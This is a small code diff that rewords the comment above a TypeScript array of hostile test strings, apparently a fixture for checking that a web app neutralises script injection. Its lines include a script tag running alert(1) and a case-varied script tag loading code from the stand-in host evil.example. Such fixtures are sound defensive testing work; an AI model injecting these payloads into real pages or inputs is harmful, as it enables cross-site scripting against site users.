@@ -1,4 +1,4 @@
-/** Texts that try to run something, leave the page, or break out of where they stand. */
+/** Texts that try to run scripts, leave the page, or break out of their context. */
 export const hostile: string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
